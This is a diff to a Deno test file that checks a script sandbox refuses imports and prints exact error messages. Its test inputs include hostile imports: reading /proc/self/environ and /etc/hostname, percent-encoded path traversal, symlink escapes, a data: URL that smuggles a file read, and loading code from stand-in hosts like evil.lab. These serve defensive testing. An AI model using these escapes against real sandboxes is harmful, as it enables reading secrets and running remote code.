@@ -2,7 +2,7 @@
 import assert from "node:assert/strict";
 import { join } from "node:path";
 import { declaredRights } from "../../lib/script/declared.ts";
-import { ended, latchWords, outcome, steps } from "./hostile_support.ts";
+import { ended, latchWords, type Outcome, outcome, steps } from "./hostile_support.ts";
 import type { Scene } from "./scene_support.ts";
 
 /** What a script can do without any right, and that is harmless. */
@@ -30,37 +30,54 @@ async function holdsPermissions(scene: Scene): Promise<void> {
   assert.ok(deeds.size > 90, `${deeds.size} deeds`);
 }
 
-/** Scripts by what they import, and what they are told. */
-const IMPORTS: Readonly<Record<string, readonly [source: string, told: RegExp]>> = {
-  text: [
-    'import t from "../secret.json" with { type: "text" }; console.log(t);',
-    /lies outside of the script's folder/,
+const OUTSIDE = "which lies outside of the script's folder\n";
+const UNGRANTED = (host: string): string => `run again with --allow-import=${host} if that is to be\n`;
+
+/** Scripts by what they import; what is refused in that, and why. F is the folder around the script's own. */
+const IMPORTS: Readonly<Record<string, readonly [source: string, what: string, why: string]>> = {
+  text: ['import t from "../secret.json" with { type: "text" }; console.log(t);', "file://F/secret.json", OUTSIDE],
+  json: ['import t from "../secret.json" with { type: "json" }; console.log(t);', "file://F/secret.json", OUTSIDE],
+  bytes: ['import t from "../secret.json" with { type: "bytes" }; console.log(t);', "file://F/secret.json", OUTSIDE],
+  system: ['import t from "/etc/hostname" with { type: "text" }; console.log(t);', "file:///etc/hostname", OUTSIDE],
+  process: [
+    'import t from "/proc/self/environ" with { type: "text" }; console.log(t);',
+    "file:///proc/self/environ",
+    OUTSIDE,
   ],
-  json: [
-    'import t from "../secret.json" with { type: "json" }; console.log(t);',
-    /lies outside of the script's folder/,
+  encoded: [
+    'import t from "./%2e%2e/secret.json" with { type: "json" }; console.log(t);',
+    "file://F/secret.json",
+    OUTSIDE,
   ],
-  bytes: ['import t from "../secret.json" with { type: "bytes" }; console.log(t);', /lies outside|cannot|type/],
-  system: [
-    'import t from "/etc/hostname" with { type: "text" }; console.log(t);',
-    /lies outside of the script's folder/,
+  link: ['import t from "./link.json" with { type: "json" }; console.log(t);', "file://F/own/link.json", OUTSIDE],
+  linkedFolder: [
+    'import t from "./linked/secret.json" with { type: "json" }; console.log(t);',
+    "file://F/own/linked/secret.json",
+    OUTSIDE,
   ],
-  link: ['import t from "./link.json" with { type: "json" }; console.log(t);', /lies outside of the script's folder/],
-  linkedFolder: ['import t from "./linked/secret.json" with { type: "json" }; console.log(t);', /lies outside of the/],
-  reexport: ['export * from "../secret.ts";', /lies outside of the script's folder/],
-  literal: ['const s = await import("../secret.ts"); console.log(s);', /lies outside of the script's folder/],
+  reexport: ['export * from "../secret.ts";', "file://F/secret.ts", OUTSIDE],
+  literal: ['const s = await import("../secret.ts"); console.log(s);', "file://F/secret.ts", OUTSIDE],
+  types: ['import type { secret } from "../secret.ts"; export * from "../secret.ts";', "file://F/secret.ts", OUTSIDE],
   data: [
     'import t from "data:text/javascript,import s from \\"file:///etc/hostname\\" with { type: \\"text\\" }; export default s"; console.log(t);',
-    /lies outside of the script's folder|cannot/,
+    "file:///etc/hostname",
+    OUTSIDE,
   ],
-  http: ['import "http://127.0.0.1:1/evil.ts";', /--allow-import|cannot|no-remote/],
-  https: ['import "https://evil.lab/evil.ts";', /--allow-import|cannot|no-remote/],
-  jsr: ['import "jsr:@std/assert";', /cannot|jsr/i],
-  npm: ['import "npm:chalk";', /cannot|npm/],
-  bare: ['import "mapped"; ', /cannot|not a dependency|mapped/],
-  jsx: ["/** @jsxImportSource https://evil.lab */\nconsole.log(<a />);", /--allow-import|cannot|no-remote/],
-  share: ['import "file://evil.lab/share/x.ts";', /on another machine|cannot/],
-  plain: ['import t from "./notes.txt" with { type: "text" }; console.log(t);', /neither code nor JSON/],
+  http: ['import "http://127.0.0.1:1/evil.ts";', "http://127.0.0.1:1/evil.ts", UNGRANTED("127.0.0.1:1")],
+  https: ['import "https://evil.lab/evil.ts";', "https://evil.lab/evil.ts", UNGRANTED("evil.lab:443")],
+  jsr: ['import "jsr:@std/assert";', "jsr:@std/assert", "which a confined script cannot ("],
+  npm: ['import "npm:chalk";', "npm:chalk", "which a confined script cannot ("],
+  jsx: [
+    "/** @jsxImportSource https://evil.lab */\nconsole.log(<a />);",
+    "https://evil.lab/jsx-runtime",
+    UNGRANTED("evil.lab:443"),
+  ],
+  share: ['import "file://evil.lab/share/x.ts";', "file://evil.lab/share/x.ts", "which is on another machine\n"],
+  plain: [
+    'import t from "./notes.txt" with { type: "text" }; console.log(t);',
+    "file://F/own/notes.txt",
+    "which is neither code nor JSON\n",
+  ],
 };
 
 async function refusesImports(scene: Scene): Promise<void> {
@@ -79,15 +96,28 @@ async function refusesImports(scene: Scene): Promise<void> {
   };
   await Deno.writeTextFile(at("own", "deno.json"), JSON.stringify(config));
   await Deno.writeTextFile(at("own", "package.json"), '{"imports":{"mapped":"../secret.ts"}}');
+  const refused = async (name: string, source: string): Promise<Outcome> => {
+    const script = at("own", `${name}.${name === "jsx" ? "tsx" : "ts"}`);
+    await Deno.writeTextFile(script, source);
+    const told = await outcome(scene, script, { cwd: at("own") });
+    assert.doesNotMatch(told.err, /the secret/, name);
+    return { ...told, err: told.err.replaceAll(folder, "F") };
+  };
   await Promise.all(
-    Object.entries(IMPORTS).map(async ([name, [source, told]]) => {
-      const script = at("own", `${name}.${name === "jsx" ? "tsx" : "ts"}`);
-      await Deno.writeTextFile(script, source);
-      const { code, out, err } = await outcome(scene, script, { cwd: at("own") });
-      assert.deepEqual([name, code, out], [name, name === "bare" ? 1 : 2, ""], err); // that Deno itself does not find
-      assert.match(err, told, name);
-      assert.doesNotMatch(err, /the secret/, name);
+    Object.entries(IMPORTS).map(async ([name, [source, what, why]]) => {
+      const { code, out, err } = await refused(name, source);
+      assert.deepEqual([name, code, out], [name, 2, ""], err);
+      const script = `file://F/own/${name}.${name === "jsx" ? "tsx" : "ts"}`;
+      const told = `error: Cannot run ${script}: it imports "${what}", ${why}`;
+      assert.equal(err.slice(0, told.length), told);
     }),
+  );
+  // A map of names beside the script does not count: Deno itself does not find it.
+  const { code, out, err } = await refused("bare", 'import "mapped"; ');
+  assert.deepEqual([code, out], [1, ""], err);
+  assert.match(
+    err,
+    /^error: Import "mapped" not a dependency and not in import map from "file:\/\/F\/own\/bare\.ts"\n/,
   );
   await Deno.remove(folder, { recursive: true });
 }
